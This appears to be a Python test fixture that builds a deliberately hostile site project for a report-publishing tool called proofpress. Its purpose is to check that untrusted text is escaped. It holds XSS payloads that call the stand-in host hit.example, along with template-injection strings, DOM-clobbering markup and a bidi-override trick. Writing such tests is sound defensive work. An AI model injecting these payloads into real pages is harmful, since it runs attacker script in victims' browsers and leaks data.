"""A project whose every text from outside wants to run something, and one that wants to be misread."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import sites

from proofpress.capture import SnapshotStore
from proofpress.one_report.waiving import write_waiver
from proofpress.site.waiving import waive_report

sys.path.append(str(Path(__file__).parents[2] / "capture"))
from pdf_files import make_pdf

ELSEWHERE = "hit.example"
"""The host that everything hostile would call."""
_RUN = f"window.__hit=1,fetch('//{ELSEWHERE}')"
SCRIPT = f"<script>{_RUN}</script>"
HANDLERS = (
    f'<img src=x onerror="{_RUN}"><svg onload="{_RUN}"><a href="javascript:{_RUN}">a</a>'
    f'<svg><script>{_RUN}</script></svg><math><mi xlink:href="javascript:{_RUN}">m</mi></math>'
    f'<details open ontoggle="{_RUN}">d</details><input autofocus onfocus="{_RUN}">'
)
FRAMES = (
    f'<iframe srcdoc="<script>parent.__hit=1</script>"></iframe><base href="//{ELSEWHERE}/">'
    f'<meta http-equiv="refresh" content="0;url=//{ELSEWHERE}/refresh">'
    f'<link rel="stylesheet" href="//{ELSEWHERE}/a.css"><object data="//{ELSEWHERE}/o"></object>'
    f'<embed src="//{ELSEWHERE}/e"><video src="//{ELSEWHERE}/v" autoplay></video>'
    f'<form action="//{ELSEWHERE}/f"><button autofocus>b</button></form>'
)
STYLE = (
    f"</style><style>@import '//{ELSEWHERE}/b.css'; * {{ background: url(//{ELSEWHERE}/c) }}</style>"
    f'<p style="background:url(//{ELSEWHERE}/d)">p</p>'
)
FILLED_IN = str(7777 * 7777)
"""What a template engine would make of what stands in these words."""
BREAKERS = (
    "]]> --> </title></textarea></noscript></template>\"'> "
    "{{7777*7777}} {% raw %} ${7777*7777} <%= 7777*7777 %>"
)
ALL = SCRIPT + HANDLERS + FRAMES + STYLE + BREAKERS
ONE_LINE = SCRIPT + f'"><img src=x onerror="{_RUN}">' + BREAKERS
CONTROLS = "\x01\x07\x0b\x1b\x7f\x85"
CLOBBER = "".join(
    f'<a id="{name}" name="{name}" href="#">{name}</a><form id="{name}"><input name="{name}"></form>'
    for name in (
        *("pp-page", "pp-text", "pp-help", "site-main", "pp-cards", "e-u-000000000000"),
        *("querySelector", "getElementById", "location", "history", "body", "documentElement"),
        *("addEventListener", "matchMedia", "localStorage", "base_url", "self", "top", "parent"),
    )
)
HEADINGS = "\n\n".join(
    f"## {name}"
    for name in (
        *("pp-page", "pp-text", "pp-help", "site-main", "e-u-000000000000", "base_url"),
        *("location", "history", "document", "localStorage", "__hit"),
    )
)

HTML = "https://pages.example/page.html"
TEXT = "https://texts.example/text.txt"
JSON = "https://data.example/data.json"
PDF = "https://papers.example/paper.pdf"
WORDS = "These words are found in each of the sources"


def shown(text: str) -> str:
    """Markdown that shows ``text`` itself."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", text)


REPORT = f"""\
---
title: {json.dumps(ONE_LINE)}
authors: [{json.dumps(ONE_LINE)}]
date: {json.dumps(ONE_LINE)}
tags: [{json.dumps(ONE_LINE)}]
{json.dumps("x" + ONE_LINE.replace("{", "").replace("%", ""))}: {json.dumps(ALL)}
---
# {ONE_LINE}

A page says “{WORDS}” [{shown(ONE_LINE)}]({HTML}).
A text says “{WORDS}” [{SCRIPT} text]({TEXT} "{shown(ONE_LINE)}"), and so does
[the paper]({PDF}) <!-- proof-quote: {WORDS} -->.
Data say “{WORDS}” [data]({JSON}), and nobody “{shown(SCRIPT)} said a thing like this” [text]({TEXT}).
The text holds more [text]({TEXT}) <!-- proof-quote: {WORDS}. {SCRIPT} -->, and shows it.
It is said {CONTROLS} here [7]. <!-- proof-locator: {ONE_LINE.replace("-->", "")} -->
It is said there. <!-- proof-question: {ONE_LINE.replace("-->", "")} -->
About 7 of 10 say {ONE_LINE} so.
About 8 of 10 say {shown(ALL)} so.
We counted 12. <!-- proof-own: {ALL.replace("-->", "")} -->
A link [runs](javascript:{_RUN}), [so does](data:text/html,{SCRIPT}) another, <javascript:{_RUN}>,
![a picture](javascript:{_RUN}) or ![from elsewhere](//{ELSEWHERE}/p.png) or [vb](vbscript:x).

{HEADINGS}

{ALL}

<div id="pp-page"><article id="pp-text"><span class="pp-unit pp-found" id="u-000000000000">Ours?</span>
<a class="pp-at pp-found" href="#e-u-000000000000">=1</a></article></div>

Inline {ALL} in a sentence.

{CLOBBER}

In a sentence {CLOBBER} too.

| {ONE_LINE.replace("|", "")} | b |
|---|---|
| {SCRIPT} | {HANDLERS.replace("|", "")} |

```claims
- id: "{ONE_LINE}"
```

```{SCRIPT}
{ALL}
```

A word {"w" * 4000} that has no end, and a note.[^n]

[^n]: {ONE_LINE}
"""

MIRROR = "\u202eROTTEN\u2066"
"""Turns what follows around, if it is let out. All text of ours has small letters; this report has none."""
MISREAD = f"""\
---
title: "MISREAD {MIRROR}"
authors: ["WRITER {MIRROR}"]
date: "DAY {MIRROR}"
tags: ["TAG {MIRROR}"]
"KEY {MIRROR}": "VALUE {MIRROR}"
---
# MISREAD {MIRROR}

## PART {MIRROR}

A TEXT SAYS “MIRRORED WORDS STAND HERE {MIRROR}” [LABEL {MIRROR}]({TEXT}).
NOBODY SAYS “UNHEARD WORDS OF NOBODY {MIRROR}” [LABEL]({TEXT}).
SO IT IS [7]. <!-- proof-locator: PLACE {MIRROR} -->
SO IT WAS. <!-- proof-locator: PLACE {MIRROR} -->
IS THAT SO {MIRROR}? <!-- proof-question: WHO SAYS {MIRROR} -->
WE COUNTED 12 {MIRROR}. <!-- proof-own: BY HAND {MIRROR} -->
IN ALL 7 OF 10 {MIRROR}.
"""


def write_hostile(folder: Path, theme: str) -> Path:
    """The project, under ``theme``; returns its ``mkdocs.yml``."""
    reports = {
        "plain": REPORT,
        "misread": MISREAD,
        "waived": sites.WAIVED,
        "odd \" & <b> {{7777*7777}} onerror=window.__hit=1 '": sites.FAILING,
    }
    further = "      publish: windows\n"
    config = sites.write_project(folder, reports, theme=theme, further=further)
    store = SnapshotStore(folder / "snapshots")
    html = (
        f"<!doctype html><html lang='{ONE_LINE}'><title>{ONE_LINE.replace('<', '&lt;')}</title>"
        f"<p>{WORDS}. {ALL.replace('&', '&amp;').replace('<', '&lt;')}</p>{ALL}"
    )
    sites.freeze(store, folder, HTML, html, note=ONE_LINE + MIRROR)
    text = f"{ALL}\n{WORDS}. {SCRIPT} {ALL}\nMIRRORED WORDS STAND HERE {MIRROR} AND GO ON.\n"
    sites.freeze(store, folder, TEXT, text, note=f"NOTE {MIRROR}")
    sites.freeze(store, folder, JSON, json.dumps({ONE_LINE: ALL, "b": WORDS}))
    pdf = make_pdf(
        [[WORDS + "."], [ONE_LINE]], title=ONE_LINE.replace("(", r"\(").replace(")", r"\)")
    )
    sites.freeze(store, folder, PDF, pdf)
    waiver, place = waive_report(config, "reports/waived.md", ONE_LINE[:200], ALL[:1000])
    write_waiver(waiver, place)
    return config
